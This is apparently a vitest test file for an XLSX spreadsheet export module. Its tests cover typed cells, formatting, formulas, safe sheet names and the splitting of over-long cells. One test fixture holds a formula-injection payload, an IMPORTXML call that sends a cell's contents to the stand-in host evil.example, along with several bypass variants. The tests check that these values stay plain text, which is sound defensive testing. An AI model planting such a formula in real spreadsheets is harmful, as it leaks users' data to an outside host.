import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { excelSheetNames } from '../../src/local/export/cells';
import {
  CONTINUATION_NOTE,
  CONTINUATION_SHEET,
  continuationNote,
  spreadsheetSnapshotToXlsx,
} from '../../src/local/export/xlsx';
import { looksLikeFormula } from '../../src/render/text';
import { sheetOf } from './helpers';

async function load(buf: Buffer): Promise<ExcelJS.Workbook> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(buf as unknown as ArrayBuffer);
  return wb;
}

describe('spreadsheetSnapshotToXlsx (hand-built snapshot)', () => {
  const injection = '=IMPORTXML("https://evil.example/?q="&A2;"//a")';
  const values: unknown[][] = [
    ['Code', 'Telefoon', 'Opmerking', 'Aantal', 'Datum', 'Actief'],
    ['J-01', '+31612345678', injection, 3, new Date(Date.UTC(2026, 0, 5, 8, 30)), true],
    ['J-02', '-5 punten', '@SUM(A1:A2)', 2.5, new Date(Date.UTC(2026, 6, 1, 22, 0)), false],
    ['J-03', 'Zoë én Anaïs 👍', '\t=1+1', 0, '', ''],
  ];

  it('keeps every string a text cell, numbers, dates and booleans typed', async () => {
    const snap = { name: 'Casus', timeZone: 'Europe/Amsterdam', sheets: [sheetOf('Antwoorden', values)] };
    const wb = await load(await spreadsheetSnapshotToXlsx(snap));
    const ws = wb.getWorksheet('Antwoorden')!;
    expect(ws).toBeDefined();
    const c = (a: string): ExcelJS.Cell => ws.getCell(a);
    expect(c('B2').type).toBe(ExcelJS.ValueType.String);
    expect(c('B2').value).toBe('+31612345678');
    expect(c('C2').type).toBe(ExcelJS.ValueType.String);
    expect(c('C2').value).toBe(injection);
    expect(c('C2').numFmt).toBe('@');
    expect(c('B3').value).toBe('-5 punten');
    expect(c('C3').type).toBe(ExcelJS.ValueType.String);
    expect(c('C4').value).toBe('\t=1+1');
    expect(c('C4').type).toBe(ExcelJS.ValueType.String);
    expect(c('B4').value).toBe('Zoë én Anaïs 👍');
    expect(c('D2').type).toBe(ExcelJS.ValueType.Number);
    expect(c('D3').value).toBe(2.5);
    expect(c('F2').value).toBe(true);
    expect(c('F3').value).toBe(false);
    expect(c('E2').type).toBe(ExcelJS.ValueType.Date);
    // Wall-clock time in the spreadsheet's zone: 08:30 UTC is 09:30 in Amsterdam in winter.
    expect((c('E2').value as Date).toISOString()).toBe('2026-01-05T09:30:00.000Z');
    expect((c('E3').value as Date).toISOString()).toBe('2026-07-02T00:00:00.000Z');
    expect(c('E4').value).toBeNull();
    // No cell anywhere became a formula.
    ws.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
      }),
    );
  });

  it('writes formatting: bold, header rows, fills, font colours, frozen panes, widths, notes, tab colour, hidden', async () => {
    const data = [
      ['Kop A', 'Kop B'],
      ['x', 'y'],
    ];
    const main = sheetOf('Overzicht', data, {
      frozenRows: 1,
      frozenColumns: 1,
      tabColor: '#1a73e8',
      backgrounds: [
        ['#ffffff', '#fce8e6'],
        [null, '#FFF'],
      ],
      fontWeights: [
        ['normal', 'normal'],
        ['normal', 'bold'],
      ],
      fontColors: [
        ['#000000', '#a50e0e'],
        ['#000000', '#000000'],
      ],
      notes: [
        ['', 'Toelichting bij kop B'],
        ['', ''],
      ],
      columnWidths: { 1: 140, 2: 70 },
    });
    const hidden = sheetOf('_intern', [['geheim']], { hidden: true });
    const wb = await load(
      await spreadsheetSnapshotToXlsx({ name: 'C', timeZone: 'Europe/Amsterdam', sheets: [main, hidden] }),
    );
    const ws = wb.getWorksheet('Overzicht')!;
    expect(ws.getCell('A1').font?.bold).toBe(true); // header row (frozen) bold
    expect(ws.getCell('A2').font?.bold).toBeFalsy();
    expect(ws.getCell('B2').font?.bold).toBe(true);
    expect(ws.getCell('B1').font?.color?.argb).toBe('FFA50E0E');
    expect((ws.getCell('B1').fill as ExcelJS.FillPattern).fgColor?.argb).toBe('FFFCE8E6');
    expect((ws.getCell('A1').fill as ExcelJS.FillPattern | undefined)?.pattern ?? 'none').toBe('none');
    const note = ws.getCell('B1').note;
    const noteText = typeof note === 'string' ? note : note?.texts?.map((t) => t.text).join('');
    expect(noteText).toBe('Toelichting bij kop B');
    const view = ws.views[0] as ExcelJS.WorksheetViewFrozen;
    expect(view.state).toBe('frozen');
    expect(view.ySplit).toBe(1);
    expect(view.xSplit).toBe(1);
    expect(ws.getColumn(1).width).toBe(20);
    expect(ws.getColumn(2).width).toBe(10);
    expect(ws.properties.tabColor?.argb).toBe('FF1A73E8');
    expect(ws.state).toBe('visible');
    expect(wb.getWorksheet('_intern')!.state).toBe('hidden');
  });

  it('writes a formula only from the formulas grid, with its value as result', async () => {
    const sheet = sheetOf('Telling', [[2, 3, 5]], { formulas: [['', '', '=A1+B1']] });
    const wb = await load(await spreadsheetSnapshotToXlsx({ name: 'F', timeZone: 'UTC', sheets: [sheet] }));
    const cell = wb.getWorksheet('Telling')!.getCell('C1');
    expect(cell.type).toBe(ExcelJS.ValueType.Formula);
    expect(cell.formula).toBe('A1+B1');
    expect(cell.result).toBe(5);
  });

  it('keeps a workbook openable: invalid or duplicate tab names, all tabs hidden, huge cells', async () => {
    const long = 'a'.repeat(40000);
    const sheets = [
      sheetOf('Stap 1: Signaal [concept]', [[long]], { hidden: true }),
      sheetOf('stap 1_ signaal _concept_', [['b']], { hidden: true }),
    ];
    const wb = await load(await spreadsheetSnapshotToXlsx({ name: 'N', timeZone: 'UTC', sheets }));
    const names = wb.worksheets.map((w) => w.name);
    expect(names).toEqual(['Stap 1_ Signaal _concept_', 'stap 1_ signaal _concept_ (2)', CONTINUATION_SHEET]);
    expect(wb.worksheets.some((w) => w.state === 'visible')).toBe(true);
    // Over Excel's limit: the cell is full and says where the rest is; nothing is cut off.
    const text = wb.worksheets[0]!.getCell('A1').value as string;
    expect(text.length).toBe(32767);
    expect(text.endsWith(continuationNote(CONTINUATION_SHEET, 2))).toBe(true);
    const rest = wb.getWorksheet(CONTINUATION_SHEET)!;
    expect(rest.getRow(2).values).toEqual([
      undefined,
      'Stap 1_ Signaal _concept_',
      'A1',
      2,
      expect.any(String),
    ]);
    expect(text.replace(CONTINUATION_NOTE, '') + (rest.getCell('D2').value as string)).toBe(long);
  });
});

describe('cell helpers', () => {
  it('recognises formula-like text including bypasses', () => {
    for (const s of ['=1', '+1', '-1', '@A', '\t=1', '\r=1', ' =1', '＝IMAGE("x")']) {
      expect(looksLikeFormula(s), s).toBe(true);
    }
    for (const s of ['', 'Jan', "'=1", '1-2', 'a=b']) expect(looksLikeFormula(s), s).toBe(false);
  });

  it('makes Excel-safe unique sheet names', () => {
    expect(excelSheetNames(['History', "'x'", 'a/b', 'A_B', 'x'.repeat(40)])).toEqual([
      'History1',
      'x',
      'a_b',
      'A_B (2)',
      'x'.repeat(31),
    ]);
  });
});
